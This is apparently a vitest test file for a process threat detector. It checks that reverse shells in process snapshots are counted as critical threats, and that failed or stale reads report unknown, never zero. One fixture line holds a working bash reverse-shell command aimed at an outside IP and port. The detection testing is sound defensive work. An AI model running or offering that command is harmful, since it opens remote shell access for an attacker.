// Threats on the port of the process detector: counted and listed while the processes can be read, absent when not.
import { beforeEach, expect, test } from 'vitest';
import {
  openThreats,
  scanThreats,
  type ThreatPorts,
  type ThreatState,
  threatSamples,
} from '../../../detectors/process/threat-watch.ts';
import { type FakePorts, fakePorts } from '../../fakes/detector.ts';
import { type FakeHttp, fakeHttp } from '../../fakes/http.ts';

const now = 1_800_000_000;
const address = 'http://c:9401/v1/processes';
const snapshot = (argv: string[], takenAtSeconds = now) => ({
  instance: 'n1',
  takenAtSeconds,
  scanGapSeconds: 15,
  processes: [{ pid: 77, ppid: 1, comm: argv[0]!.slice(0, 15), argv }],
  omitted: 0,
  nextCursor: null,
});
const shell = ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'];

let state: ThreatState;
let fakes: FakePorts;
let http: FakeHttp;
let ports: ThreatPorts;
beforeEach(() => {
  state = openThreats();
  fakes = fakePorts({}, now);
  http = fakeHttp({ [address]: snapshot(shell) });
  fakes.prometheus.get = async () => ({
    activeTargets: [{ labels: { job: 'node', instance: 'n1' }, scrapeUrl: 'http://c:9401/metrics', health: 'up' }],
  });
  ports = { prometheus: fakes.prometheus, clock: fakes.clock, log: fakes.log, http, token: () => 'secret' };
});
const scan = () => scanThreats(state, ports, 30);
const threats = () => threatSamples(state).filter(({ name }) => name === 'process_threats');

test('a reverse shell is counted and listed', async () => {
  await scan();
  const critical = threats().filter(({ labels, value }) => labels.tier === 'critical' && value > 0);
  expect(critical.map(({ labels }) => labels)).toEqual([
    { detector: 'process', instance: 'n1', tier: 'critical', category: 'reverse_shells' },
  ]);
  expect(state.seen.get('n1')!.report.threats.map(({ pid }) => pid)).toEqual([77]);
  expect(http.asked[0]!.authorization).toBe('Bearer secret');
});

test('none is a 0 that was read', async () => {
  http.answers.set(address, snapshot(['sleep', '5']));
  await scan();
  expect(threats().length).toBeGreaterThan(6);
  expect(threats().every(({ value }) => value === 0)).toBe(true);
});

test.each([
  { given: 'a collector that refuses', fail: () => http.answers.set(address, 401) },
  { given: 'half an answer', fail: () => http.answers.set(address, '{') },
  {
    given: 'no token',
    fail: () =>
      Object.assign(ports, {
        token: () => {
          throw new Error('none');
        },
      }),
  },
  {
    given: 'Prometheus silent',
    fail: () => Object.assign(fakes.prometheus, { get: () => Promise.reject(new Error('down')) }),
  },
  { given: 'an old snapshot', fail: () => http.answers.set(address, snapshot(shell, now - 1000)) },
])('$given: unknown is no 0', async ({ given, fail }) => {
  fail();
  await scan();
  expect(threats()).toEqual([]);
  expect(state.failuresTotal).toBe(given === 'an old snapshot' ? 0 : 1);
});

test('what was read is forgotten after three rounds without an answer', async () => {
  await scan();
  http.answers.set(address, 503);
  fakes.clock.now += 60;
  await scan();
  expect(threats().length).toBeGreaterThan(0);
  fakes.clock.now += 31;
  await scan();
  expect(threats()).toEqual([]);
});
